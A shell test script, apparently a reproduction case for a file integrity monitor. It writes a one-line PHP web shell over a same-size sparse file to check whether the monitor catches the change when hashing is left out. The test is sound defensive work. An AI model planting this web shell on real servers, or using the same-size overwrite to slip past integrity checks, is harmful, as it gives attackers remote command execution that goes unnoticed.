#!/bin/sh
# S17H: a write into a sparse file under a rule whose attributes leave out ctime (content,
# p+u+g+sha256, R-c...): same size, so nothing but sha256 could show it, and sha256 is not taken.
# usage: hidden-change.sh DIR ATTRIBUTES

CLI=${CLI:-node packages/cli/dist/bin.js}
D=$1; A=$2
rm -rf "$D"; mkdir -p "$D/www"
echo '<?php echo 1;' > "$D/www/index.php"
truncate -s 100M "$D/www/data.php"; printf '<?php echo "hello";' | dd of="$D/www/data.php" conv=notrunc status=none
$CLI fim init --db "$D/fim.db" --key "$D/fim.key" --no-events --attributes "$A" "$D/www" >/dev/null || true
echo "--- check before the change"; $CLI fim check --db "$D/fim.db" --key "$D/fim.key" --no-events; echo "rc=$?"
# the attacker writes a web shell into the same file, same size, no mtime reset needed
printf '<?php system($_GET[1]);//' | dd of="$D/www/data.php" conv=notrunc status=none
echo "--- check after the change"; $CLI fim check --db "$D/fim.db" --key "$D/fim.key" --no-events; echo "rc=$?"
echo "--- check --fast after the change"; $CLI fim check --fast --db "$D/fim.db" --key "$D/fim.key" --no-events; echo "rc=$?"
